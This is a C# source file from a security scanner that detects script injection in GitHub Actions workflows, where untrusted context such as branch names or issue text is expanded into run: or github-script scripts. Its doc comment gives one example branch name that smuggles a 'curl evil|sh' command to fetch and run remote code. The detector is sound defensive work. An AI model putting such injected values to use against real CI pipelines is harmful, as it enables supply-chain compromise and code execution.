using AtlasGuard.Core.Findings;
using AtlasGuard.Formats.GitHubActions;

namespace AtlasGuard.Detectors.Ci;

/// <summary>
/// AG-CI-002: an expression reading attacker-controlled context inside a <c>run:</c> script or an
/// <c>actions/github-script</c> <c>script:</c>. The runner pastes the value into the script before the shell or
/// Node.js reads it, so a branch name like <c>a";curl evil|sh;"</c> becomes code (the Ultralytics injection).
/// Caller-set inputs (workflow_dispatch, composite action inputs) are reported at low severity.
/// </summary>
internal static class ScriptInjectionCheck
{
    /// <summary>The most findings for one script; a script with more untrusted expansions is reported for these.</summary>
    private const int MaxPerScript = 20;

    public static void Run(WorkflowScan scan)
    {
        foreach (var job in scan.Workflow.Jobs)
        {
            foreach (var step in job.Steps)
            {
                scan.CancellationToken.ThrowIfCancellationRequested();
                if (step.Run is { } run)
                {
                    Check(scan, job, step, run.Text, run.LineOf, "run: script");
                }

                if (step.ActionName == "actions/github-script" && step.Input("script") is { } script)
                {
                    var located = new ActionsRun(script.Text, script.Line);
                    Check(scan, job, step, located.Text, located.LineOf, "github-script script");
                }
            }
        }
    }

    private static void Check(WorkflowScan scan, ActionsJob job, ActionsStep step, string text, Func<int, int> lineOf, string where)
    {
        var reported = new HashSet<string>(StringComparer.Ordinal);
        foreach (var expression in ActionsExpressions.Find(text))
        {
            var (trust, path) = UntrustedContexts.Worst(expression.Body);
            if (trust == ContextTrust.Trusted || path is null || !reported.Add(path))
            {
                continue;
            }

            if (reported.Count > MaxPerScript)
            {
                break;
            }

            var attacker = trust == ContextTrust.Attacker;
            var message = attacker
                ? $"The {where} of step {StepName(step)} in job '{job.Id}' expands ${{{{ {path} }}}}, text that whoever opens the issue, pull request, comment or branch writes; it becomes part of the script before it runs. Pass it through env: and quote the variable."
                : $"The {where} of step {StepName(step)} in job '{job.Id}' expands ${{{{ {path} }}}} into the script; whoever sets that input can inject commands. Pass it through env: and quote the variable.";
            scan.Report(CiRules.UntrustedContextInScript, lineOf(expression.Offset), message, $"{job.Id}/{step.Index}/{path}",
                "${{ " + expression.Body + " }}", attacker ? null : Severity.Low);
        }
    }

    internal static string StepName(ActionsStep step) => step.Name is { Length: > 0 } name
        ? $"'{WorkflowScan.Short(name)}'"
        : $"{step.Index + 1}";

}
